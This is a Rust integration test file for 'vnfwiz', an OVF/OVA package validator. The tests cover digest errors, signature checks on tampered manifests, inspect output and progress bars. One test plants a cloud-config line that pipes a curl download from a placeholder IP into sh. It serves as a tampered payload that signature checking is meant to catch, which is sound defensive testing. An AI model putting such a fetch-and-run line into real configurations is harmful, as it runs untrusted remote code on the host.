//! OVF package integrity through the real binary: a corrupted disk byte in an OVA is a
//! digest error naming the disk, found in one pass over the archive without temporary
//! files; a tampered manifest fails its certificate's signature; `inspect` shows each
//! file's digest status and the signer; the progress bar appears only on a terminal.

use std::ffi::OsStr;
use std::path::{Path, PathBuf};
use std::process::{Command, Output, Stdio};
use std::time::Duration;

use serde_json::Value;
use sha2::{Digest, Sha256};

fn vnfwiz<S: AsRef<OsStr>>(args: &[S]) -> Output {
    Command::new(env!("CARGO_BIN_EXE_vnfwiz"))
        .args(args)
        .env("NO_COLOR", "1")
        .output()
        .expect("the binary runs")
}

fn json(out: &Output) -> Value {
    serde_json::from_slice(&out.stdout).unwrap_or_else(|e| {
        panic!(
            "not JSON ({e}): {}{}",
            String::from_utf8_lossy(&out.stdout),
            String::from_utf8_lossy(&out.stderr)
        )
    })
}

/// `(rule, file:line:column)` of every violation of a JSON report.
fn places(report: &Value) -> Vec<(String, String)> {
    report["violations"]
        .as_array()
        .expect("violations")
        .iter()
        .map(|v| {
            (
                v["rule"].as_str().unwrap_or_default().to_owned(),
                format!("{}:{}:{}", v["file"], v["line"], v["column"]).replace('"', ""),
            )
        })
        .collect()
}

fn sha256_hex(data: &[u8]) -> String {
    Sha256::digest(data)
        .iter()
        .map(|b| format!("{b:02x}"))
        .collect()
}

/// Deterministic disk content.
fn disk(size: usize, seed: u8) -> Vec<u8> {
    (0..size)
        .map(|i| (i as u32).wrapping_mul(2_654_435_761).to_le_bytes()[3] ^ seed)
        .collect()
}

/// A session border controller whose boot disk is `disk_size` bytes, with a day-0 ISO.
fn vsbc_descriptor(disk_size: usize) -> String {
    format!(
        r#"<?xml version="1.0" encoding="UTF-8"?>
<Envelope xmlns="http://schemas.dmtf.org/ovf/envelope/1" xmlns:ovf="http://schemas.dmtf.org/ovf/envelope/1" xmlns:rasd="http://schemas.dmtf.org/wbem/wscim/1/cim-schema/2/CIM_ResourceAllocationSettingData">
  <References>
    <File ovf:id="system" ovf:href="vsbc-system.vmdk" ovf:size="{disk_size}"/>
    <File ovf:id="config" ovf:href="vsbc-config.iso" ovf:size="4096"/>
  </References>
  <DiskSection>
    <Info>Virtual disks</Info>
    <Disk ovf:diskId="boot" ovf:fileRef="system" ovf:capacity="8" ovf:capacityAllocationUnits="byte * 2^30" ovf:format="http://www.vmware.com/interfaces/specifications/vmdk.html#streamOptimized"/>
  </DiskSection>
  <NetworkSection>
    <Info>Networks</Info>
    <Network ovf:name="oam"><Description>Operations and maintenance</Description></Network>
  </NetworkSection>
  <VirtualSystem ovf:id="vsbc">
    <Info>Session border controller</Info>
    <VirtualHardwareSection>
      <Info>2 vCPU, 4 GiB</Info>
      <Item>
        <rasd:ElementName>2 virtual CPUs</rasd:ElementName>
        <rasd:InstanceID>1</rasd:InstanceID>
        <rasd:ResourceType>3</rasd:ResourceType>
        <rasd:VirtualQuantity>2</rasd:VirtualQuantity>
      </Item>
      <Item>
        <rasd:AllocationUnits>byte * 2^20</rasd:AllocationUnits>
        <rasd:ElementName>4096 MB of memory</rasd:ElementName>
        <rasd:InstanceID>2</rasd:InstanceID>
        <rasd:ResourceType>4</rasd:ResourceType>
        <rasd:VirtualQuantity>4096</rasd:VirtualQuantity>
      </Item>
      <Item>
        <rasd:ElementName>Boot disk</rasd:ElementName>
        <rasd:HostResource>ovf:/disk/boot</rasd:HostResource>
        <rasd:InstanceID>3</rasd:InstanceID>
        <rasd:ResourceType>17</rasd:ResourceType>
      </Item>
      <Item>
        <rasd:Connection>oam</rasd:Connection>
        <rasd:ElementName>oam0</rasd:ElementName>
        <rasd:InstanceID>4</rasd:InstanceID>
        <rasd:ResourceType>10</rasd:ResourceType>
      </Item>
    </VirtualHardwareSection>
  </VirtualSystem>
</Envelope>
"#
    )
}

/// The vSBC package's files, descriptor first, manifest second (SHA256 of the others).
fn vsbc(disk_size: usize) -> Vec<(String, Vec<u8>)> {
    let mut files = vec![
        (
            "vsbc.ovf".to_owned(),
            vsbc_descriptor(disk_size).into_bytes(),
        ),
        ("vsbc-system.vmdk".to_owned(), disk(disk_size, 1)),
        ("vsbc-config.iso".to_owned(), disk(4096, 2)),
    ];
    let manifest: String = files
        .iter()
        .map(|(name, data)| format!("SHA256({name})= {}\n", sha256_hex(data)))
        .collect();
    files.insert(1, ("vsbc.mf".to_owned(), manifest.into_bytes()));
    files
}

/// Packs files, in order, into a ustar OVA.
fn write_ova(path: &Path, files: &[(String, Vec<u8>)]) {
    let mut builder = tar::Builder::new(std::fs::File::create(path).expect("create OVA"));
    for (name, data) in files {
        let mut header = tar::Header::new_ustar();
        header.set_size(data.len() as u64);
        header.set_mode(0o644);
        header.set_cksum();
        builder
            .append_data(&mut header, name, data.as_slice())
            .expect("entry");
    }
    builder.finish().expect("tar");
}

/// Flips one byte in the middle of a file's data.
fn corrupt(files: &mut [(String, Vec<u8>)], name: &str) {
    let (_, data) = files.iter_mut().find(|(n, _)| n == name).expect("file");
    let middle = data.len() / 2;
    data[middle] ^= 0x20;
}

/// A run of the binary with what it read: `rchar` of /proc/<pid>/io, taken after the
/// process exited and before it is reaped (Linux).
#[cfg(target_os = "linux")]
fn run_counting_reads(args: &[&OsStr], tmpdir: &Path) -> (Output, u64) {
    use std::io::Read;
    let mut child = Command::new(env!("CARGO_BIN_EXE_vnfwiz"))
        .args(args)
        .env("NO_COLOR", "1")
        .env("TMPDIR", tmpdir)
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .expect("start vnfwiz");
    let pid = child.id();
    let mut stdout = child.stdout.take().expect("stdout");
    let mut stderr = child.stderr.take().expect("stderr");
    let out = std::thread::spawn(move || {
        let mut data = Vec::new();
        stdout.read_to_end(&mut data).map(|_| data)
    });
    let err = std::thread::spawn(move || {
        let mut data = Vec::new();
        stderr.read_to_end(&mut data).map(|_| data)
    });
    // A guard against hangs, far above the expected time (not a speed assertion).
    let guard = std::thread::spawn(move || {
        std::thread::sleep(Duration::from_secs(120));
        // SAFETY: signals a process id this test started; harmless once it has exited.
        unsafe { libc::kill(pid as libc::pid_t, libc::SIGKILL) };
    });
    // SAFETY: waits for this test's own child without reaping it (WNOWAIT), so its
    // /proc entry, with the I/O counters, stays readable.
    let waited = unsafe {
        let mut info: libc::siginfo_t = std::mem::zeroed();
        libc::waitid(
            libc::P_PID,
            pid as libc::id_t,
            &mut info,
            libc::WEXITED | libc::WNOWAIT,
        )
    };
    assert_eq!(waited, 0, "waitid failed");
    let io = std::fs::read_to_string(format!("/proc/{pid}/io")).expect("/proc/<pid>/io");
    let read: u64 = io
        .lines()
        .find_map(|l| l.strip_prefix("rchar: "))
        .and_then(|n| n.trim().parse().ok())
        .expect("rchar");
    let status = child.wait().expect("reap");
    drop(guard);
    let output = Output {
        status,
        stdout: out.join().expect("stdout thread").expect("stdout"),
        stderr: err.join().expect("stderr thread").expect("stderr"),
    };
    (output, read)
}

#[cfg(target_os = "linux")]
#[test]
fn a_corrupted_byte_in_an_ova_disk_is_a_digest_error_found_in_one_pass_without_temporary_files() {
    const DISK: usize = 24 << 20;
    let dir = tempfile::tempdir().expect("temp dir");
    let tmp = tempfile::tempdir().expect("TMPDIR for the child");
    let path = dir.path().join("vsbc.ova");
    let mut files = vsbc(DISK);
    corrupt(&mut files, "vsbc-system.vmdk");
    write_ova(&path, &files);
    let archive = std::fs::metadata(&path).expect("OVA").len();

    let args = [
        OsStr::new("validate"),
        "--format".as_ref(),
        "json".as_ref(),
        path.as_os_str(),
    ];
    let (out, read) = run_counting_reads(&args, tmp.path());
    assert_eq!(
        out.status.code(),
        Some(1),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let report = json(&out);
    assert_eq!(
        places(&report),
        [("OVF-digest-mismatch".to_owned(), "vsbc.mf:2:1".to_owned())]
    );
    let violation = &report["violations"][0];
    assert!(
        violation["message"]
            .as_str()
            .is_some_and(|m| m.contains("`vsbc-system.vmdk` has SHA256")),
        "{violation}"
    );
    assert_eq!(violation["related"][0]["file"], "vsbc.ovf");
    assert_eq!(violation["related"][0]["line"], 4);

    // One pass: the disk's bytes were read once (the headers are looked at first, and the
    // process reads its own small files too); a second pass would double this.
    assert!(read >= DISK as u64, "read only {read} bytes");
    assert!(
        read < archive + (2 << 20),
        "read {read} bytes of a {archive}-byte archive"
    );
    // Nothing extracted: no temporary file, nothing beside the archive.
    assert_eq!(std::fs::read_dir(tmp.path()).expect("TMPDIR").count(), 0);
    let beside: Vec<_> = std::fs::read_dir(dir.path())
        .expect("folder")
        .flatten()
        .map(|e| e.file_name())
        .collect();
    assert_eq!(beside, [OsStr::new("vsbc.ova")]);

    // The intact package passes.
    write_ova(&path, &vsbc(DISK));
    let out = vnfwiz(&[OsStr::new("validate"), path.as_os_str()]);
    let text = String::from_utf8_lossy(&out.stdout);
    assert_eq!(out.status.code(), Some(0), "{text}");
    assert!(text.ends_with(": 0 errors, 0 warnings\n"), "{text}");
}

/// A copy of the signed vDNS fixture (manifest and CA-issued signature).
fn signed_vdns(into: &Path) -> PathBuf {
    let source = Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("tests/fixtures/rules/OVF-signature-mismatch/pass");
    for entry in std::fs::read_dir(&source).expect("fixture").flatten() {
        std::fs::copy(entry.path(), into.join(entry.file_name())).expect("copy");
    }
    into.join("vdns.ovf")
}

/// The manifest with the ISO's digest replaced by `digest`.
fn with_iso_digest(manifest: &str, digest: &str) -> String {
    manifest
        .lines()
        .map(
            |line| match line.strip_prefix("SHA256(vdns-config.iso)= ") {
                Some(_) => format!("SHA256(vdns-config.iso)= {digest}\n"),
                None => format!("{line}\n"),
            },
        )
        .collect()
}

#[test]
fn a_tampered_manifest_fails_its_certificate_signature() {
    let dir = tempfile::tempdir().expect("temp dir");
    let descriptor = signed_vdns(dir.path());
    let out = vnfwiz(&[OsStr::new("validate"), descriptor.as_os_str()]);
    assert_eq!(out.status.code(), Some(0), "the fixture verifies as made");

    // Someone swaps the day-0 ISO and rewrites the manifest to match: every digest agrees,
    // only the signature shows it.
    let iso = b"#cloud-config\nruncmd: [curl http://203.0.113.9/x | sh]\n".to_vec();
    std::fs::write(dir.path().join("vdns-config.iso"), &iso).expect("swap");
    let manifest = std::fs::read_to_string(dir.path().join("vdns.mf")).expect("manifest");
    std::fs::write(
        dir.path().join("vdns.mf"),
        with_iso_digest(&manifest, &sha256_hex(&iso)),
    )
    .expect("rewrite");
    let out = vnfwiz(&[
        OsStr::new("validate"),
        "--format".as_ref(),
        "json".as_ref(),
        descriptor.as_os_str(),
    ]);
    assert_eq!(out.status.code(), Some(1));
    let found = places(&json(&out));
    assert!(
        found.contains(&(
            "OVF-signature-mismatch".to_owned(),
            "vdns.cert:1:1".to_owned()
        )),
        "{found:?}"
    );
    // The swapped ISO no longer has the size the descriptor declares.
    assert!(
        found.contains(&("OVF-size-mismatch".to_owned(), "vdns.ovf:5:5".to_owned())),
        "{found:?}"
    );
    assert!(!found.iter().any(|(rule, _)| rule == "OVF-digest-mismatch"));

    // The same package as an OVA; the text report shows the certificate's signature line.
    let ova = dir.path().join("vdns.ova");
    let names = [
        "vdns.ovf",
        "vdns.mf",
        "vdns.cert",
        "vdns-system.vmdk",
        "vdns-config.iso",
    ];
    let files: Vec<(String, Vec<u8>)> = names
        .iter()
        .map(|n| {
            let data = std::fs::read(dir.path().join(n)).expect("file");
            ((*n).to_owned(), data)
        })
        .collect();
    write_ova(&ova, &files);
    let out = vnfwiz(&[
        OsStr::new("validate"),
        "--rules".as_ref(),
        "OVF-signature-mismatch".as_ref(),
        ova.as_os_str(),
    ]);
    let text = String::from_utf8_lossy(&out.stdout);
    assert_eq!(out.status.code(), Some(1), "{text}");
    assert!(text.contains("error[OVF-signature-mismatch]"), "{text}");
    assert!(text.contains(" --> vdns.cert:1:1"), "{text}");
    assert!(text.contains("1 | SHA256(vdns.mf)= "), "{text}");
}

#[test]
fn inspect_shows_each_file_s_digest_status_and_the_signer() {
    let dir = tempfile::tempdir().expect("temp dir");
    let descriptor = signed_vdns(dir.path());
    let inspect = |path: &Path, format: &str| {
        let out = vnfwiz(&[
            OsStr::new("inspect"),
            "--format".as_ref(),
            format.as_ref(),
            path.as_os_str(),
        ]);
        assert_eq!(
            out.status.code(),
            Some(0),
            "{}",
            String::from_utf8_lossy(&out.stderr)
        );
        out
    };
    let doc = json(&inspect(&descriptor, "json"));
    let integrity = &doc["inspection"]["integrity"];
    assert_eq!(integrity["manifest"], "vdns.mf");
    assert_eq!(integrity["certificate"], "vdns.cert");
    let signature = &integrity["signature"];
    assert_eq!(signature["verified"], true);
    assert_eq!(signature["self_signed"], false);
    assert_eq!(signature["expired"], false);
    assert_eq!(signature["algorithm"], "SHA256");
    assert!(
        signature["signer"]
            .as_str()
            .is_some_and(|s| s.contains("CN=vFirewall release signing"))
    );
    assert!(
        signature["issuer"]
            .as_str()
            .is_some_and(|s| s.contains("CN=Example Telecom Test CA"))
    );
    assert_eq!(integrity["findings"].as_array().map(Vec::len), Some(0));
    let digests = |doc: &Value| -> Vec<String> {
        doc["inspection"]["files"]
            .as_array()
            .expect("files")
            .iter()
            .map(|f| f["digest"].as_str().unwrap_or("null").to_owned())
            .collect()
    };
    assert_eq!(digests(&doc), ["verified", "verified"]);

    // A damaged disk, an absent ISO.
    let disk = dir.path().join("vdns-system.vmdk");
    let mut data = std::fs::read(&disk).expect("disk");
    data[100] ^= 1;
    std::fs::write(&disk, data).expect("damage");
    std::fs::remove_file(dir.path().join("vdns-config.iso")).expect("remove");
    let doc = json(&inspect(&descriptor, "json"));
    assert_eq!(digests(&doc), ["mismatch", "missing"]);
    let findings = &doc["inspection"]["integrity"]["findings"];
    assert_eq!(findings[0]["rule"], "OVF-missing-file");
    assert_eq!(findings[1]["rule"], "OVF-digest-mismatch");
    assert_eq!(findings[1]["at"]["file"], "vdns.mf");
    assert_eq!(findings[1]["at"]["line"], 2);
    let text = String::from_utf8(inspect(&descriptor, "text").stdout).expect("utf-8");
    for expected in [
        "system  vdns-system.vmdk  (8192 bytes, 8192 bytes present, digest mismatch)",
        "config  vdns-config.iso  (2048 bytes, not in the package, digest missing)",
        "certificate vdns.cert: SHA256 signature verified",
        "signer  CN=vFirewall release signing",
        "error OVF-digest-mismatch (vdns.mf:2): `vdns-system.vmdk` has SHA256",
    ] {
        assert!(text.contains(expected), "missing `{expected}` in:\n{text}");
    }

    // Without the manifest (and so a signature over nothing), and with a stray file.
    std::fs::remove_file(dir.path().join("vdns.mf")).expect("remove");
    std::fs::remove_file(dir.path().join("vdns.cert")).expect("remove");
    let doc = json(&inspect(&descriptor, "json"));
    assert_eq!(digests(&doc), ["no_manifest", "missing"]);
    let text = String::from_utf8(inspect(&descriptor, "text").stdout).expect("utf-8");
    assert!(
        text.contains("no manifest: nothing can be verified"),
        "{text}"
    );
    assert!(text.contains("not signed"), "{text}");

    // A manifest that leaves the disk out.
    std::fs::write(
        dir.path().join("vdns.mf"),
        format!(
            "SHA256(vdns.ovf)= {}\n",
            sha256_hex(&std::fs::read(&descriptor).expect("descriptor"))
        ),
    )
    .expect("manifest");
    let doc = json(&inspect(&descriptor, "json"));
    assert_eq!(digests(&doc), ["not_listed", "missing"]);
}

#[test]
fn no_progress_bar_when_stderr_is_not_a_terminal() {
    let dir = tempfile::tempdir().expect("temp dir");
    let path = dir.path().join("vsbc.ova");
    write_ova(&path, &vsbc(4 << 20));
    for command in ["validate", "inspect"] {
        let out = vnfwiz(&[OsStr::new(command), path.as_os_str()]);
        assert_eq!(out.status.code(), Some(0));
        assert!(out.stderr.is_empty(), "{command} wrote to a piped stderr");
    }
}

#[cfg(target_os = "linux")]
#[test]
fn a_progress_bar_is_drawn_when_stderr_is_a_terminal() {
    use std::io::Read;
    use std::os::fd::{FromRawFd, OwnedFd};
    let dir = tempfile::tempdir().expect("temp dir");
    let path = dir.path().join("vsbc.ova");
    write_ova(&path, &vsbc(8 << 20));
    let (mut master, mut slave) = (0, 0);
    // SAFETY: openpty writes two new descriptors into the integers given.
    let opened = unsafe {
        libc::openpty(
            &mut master,
            &mut slave,
            std::ptr::null_mut(),
            std::ptr::null(),
            std::ptr::null(),
        )
    };
    assert_eq!(opened, 0, "no pseudo-terminal");
    // SAFETY: both descriptors were just opened and are owned here alone.
    let (master, slave) = unsafe { (OwnedFd::from_raw_fd(master), OwnedFd::from_raw_fd(slave)) };
    let out = Command::new(env!("CARGO_BIN_EXE_vnfwiz"))
        .args([OsStr::new("validate"), path.as_os_str()])
        .env("NO_COLOR", "1")
        .env("TERM", "xterm")
        .stdout(Stdio::piped())
        .stderr(Stdio::from(slave))
        .output()
        .expect("run");
    assert_eq!(out.status.code(), Some(0));
    let mut terminal = std::fs::File::from(master);
    let mut drawn = vec![0u8; 1 << 16];
    let n = terminal.read(&mut drawn).expect("read the terminal");
    let drawn = String::from_utf8_lossy(&drawn[..n]);
    assert!(
        drawn.contains("vsbc.ova"),
        "the bar names the package: {drawn:?}"
    );
    assert!(drawn.contains("MiB"), "the bar counts bytes: {drawn:?}");
    // The report itself goes to stdout, untouched by the bar.
    assert!(String::from_utf8_lossy(&out.stdout).contains("files checked against"));
}
